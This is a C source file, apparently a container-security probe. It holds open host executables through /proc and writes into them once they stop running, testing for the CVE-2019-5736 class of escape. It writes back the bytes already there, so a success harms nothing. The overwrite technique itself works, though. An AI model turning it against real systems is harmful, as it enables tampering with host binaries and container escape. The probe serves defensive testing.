/* overwrite SECONDS: lies in wait for programs that are not this container's own and writes into their files as soon as they no
 * longer run (the class of CVE-2019-5736). It writes the bytes that are there already, so that a success harms nobody. Says how
 * many programs it held open, and into how many it wrote. */
#include "status.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { MOST = 512 };

static int held[MOST];
static struct stat known[MOST];
static int count_held, written;

static int is_known(const struct stat *found)
{
    for (int i = 0; i < count_held; i++)
        if (known[i].st_dev == found->st_dev && known[i].st_ino == found->st_ino)
            return 1;
    return 0;
}

static void hold(int pid, const struct stat *own)
{
    char path[64];
    struct stat found;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0)
        return;
    if (fstat(file, &found) < 0 || is_known(&found) || count_held == MOST ||
        (found.st_dev == own->st_dev && found.st_ino == own->st_ino)) {
        close(file);
        return;
    }
    known[count_held] = found;
    held[count_held++] = file;
}

static void write_into(int file)
{
    char path[64], same[4];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    int open_again = open(path, O_WRONLY | O_CLOEXEC); /* ETXTBSY as long as it runs */
    if (open_again < 0)
        return;
    if (pread(file, same, sizeof same, 0) == sizeof same)
        written += pwrite(open_again, same, sizeof same, 0) == sizeof same;
    close(open_again);
}

int main(int count, char **words)
{
    struct stat own;
    time_t end = time(NULL) + (count > 1 ? atol(words[1]) : 1);
    if (stat("/proc/self/exe", &own) < 0)
        return 1;
    while (time(NULL) < end && !written) {
        DIR *all = opendir("/proc");
        struct dirent *entry;
        while (all && (entry = readdir(all)))
            if (atoi(entry->d_name) > 0)
                hold(atoi(entry->d_name), &own);
        closedir(all);
        for (int i = 0; i < count_held; i++)
            write_into(held[i]);
    }
    printf("held %d\nwritten %d\n", count_held, written);
    return 0;
}
